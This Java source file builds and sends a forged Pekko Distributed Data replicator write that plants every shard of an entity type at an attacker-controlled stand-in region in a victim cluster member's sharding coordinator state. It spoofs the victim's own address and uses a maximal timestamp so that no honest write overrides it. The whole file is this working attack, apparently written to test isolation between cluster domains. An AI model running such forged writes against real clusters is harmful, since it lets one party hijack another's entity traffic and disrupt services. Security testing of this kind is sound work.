package dev.writ.node.identity;

import java.util.ArrayList;
import java.util.List;
import org.apache.pekko.actor.ActorRef;
import org.apache.pekko.actor.ActorSystem;
import org.apache.pekko.cluster.UniqueAddress;
import org.apache.pekko.cluster.ddata.LWWRegister;
// Pekko's replicator and coordinator protocols are internal Scala; Java names their classes by their binary names.
import org.apache.pekko.cluster.ddata.Replicator$Internal$DataEnvelope;
import org.apache.pekko.cluster.ddata.Replicator$Internal$Write;
import org.apache.pekko.cluster.ddata.VersionVector$;
import org.apache.pekko.cluster.sharding.ShardCoordinator$Internal$State;
import scala.Option;
import scala.collection.immutable.Map;
import scala.collection.immutable.Map$;
import scala.collection.immutable.Set$;
import scala.collection.immutable.Vector;
import scala.jdk.javaapi.CollectionConverters;

/**
 * What a member of another domain sends to plant shard homes in a domain's coordinator state while
 * that state is Distributed Data (Pekko's {@code state-store-mode = ddata}): a replicator
 * {@code Write} of the entity type's {@code <type>CoordinatorState} register, naming the member's own
 * stand-in region home of every shard, with a timestamp no honest write overtakes. The write claims
 * to come from the victim itself (the replicator checks only that the node it names is a member it
 * knows), and it goes to the sharding replicator's path on the victim.
 */
final class ForgedCoordinatorState {
    private ForgedCoordinatorState() {
    }

    /**
     * Sends the forged state of {@code entityType}, {@code shards} shards all homed at {@code standIn},
     * to the sharding replicator of the member at {@code victim}.
     */
    static void send(ActorSystem attacker, UniqueAddress victim, String entityType, int shards, ActorRef standIn) {
        Map<String, ActorRef> homes = Map$.MODULE$.empty();
        List<String> ids = new ArrayList<>();
        for (int shard = 0; shard < shards; shard++) {
            homes = homes.updated(Integer.toString(shard), standIn);
            ids.add(Integer.toString(shard));
        }
        Vector<String> hosted = CollectionConverters.asScala(ids).toVector();
        Map<ActorRef, Vector<String>> regions = Map$.MODULE$.<ActorRef, Vector<String>>empty().updated(standIn, hosted);
        ShardCoordinator$Internal$State state = new ShardCoordinator$Internal$State(homes, regions, Set$.MODULE$.empty(),
                Set$.MODULE$.empty(), false);
        LWWRegister<ShardCoordinator$Internal$State> register = new LWWRegister<>(victim, state, Long.MAX_VALUE);
        Replicator$Internal$DataEnvelope envelope = new Replicator$Internal$DataEnvelope(register, Map$.MODULE$.empty(),
                VersionVector$.MODULE$.empty());
        // the sharding replicator of entity types without a role
        attacker.actorSelection(victim.address() + "/system/sharding/replicator")
                .tell(new Replicator$Internal$Write(entityType + "CoordinatorState", envelope, Option.apply(victim)),
                        ActorRef.noSender());
    }
}
